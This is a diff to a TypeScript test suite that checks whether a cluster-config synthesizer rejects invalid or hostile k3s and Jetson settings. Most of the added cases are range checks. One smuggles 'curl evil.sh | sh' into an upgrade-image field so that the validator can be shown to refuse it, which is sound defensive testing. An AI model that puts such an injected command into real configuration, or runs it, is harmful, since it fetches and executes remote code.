@@ -83,6 +83,10 @@ const cases: [string, string | ((dir: string) => string), string][] = [
   ['an nvpmodel mode out of range', 'hostPrep:\n  powerModes:\n    jetpack4:\n      nvpmodel: 100000\n', 'hostPrep.powerModes.jetpack4.nvpmodel'],
   ['a power mode for an unknown profile', 'hostPrep:\n  powerModes:\n    jetpack9:\n      nvpmodel: 0\n', 'hostPrep.powerModes'],
   ['an empty power mode', 'nodes:\n  server:\n    name: jm-node-1\n    powerMode: {}\n', 'nodes.server.powerMode: must set nvpmodel (a mode number) or jetsonClocks'],
+  ['a minReadySeconds of a day', 'triton:\n  minReadySeconds: 86400\n', 'triton.minReadySeconds: must be at most 3600 seconds'],
+  ['a k3s-upgrade image with a shell command', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: "rancher/k3s-upgrade; curl evil.sh | sh"\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image reference'],
+  ['a k3s-upgrade image pinned to another release', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: rancher/k3s-upgrade:v1.35.0-k3s1\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image name without tag'],
+  ['a drain timeout beyond SUC\'s job deadline', 'upgrades:\n  systemUpgradeController:\n    drain: { timeoutSeconds: 3600 }\n', 'upgrades.systemUpgradeController.drain.timeoutSeconds: must be at most 840 seconds, below SUC'],
 ];
 
 describe('synth refuses hostile cluster descriptions in one line, changing nothing', () => {
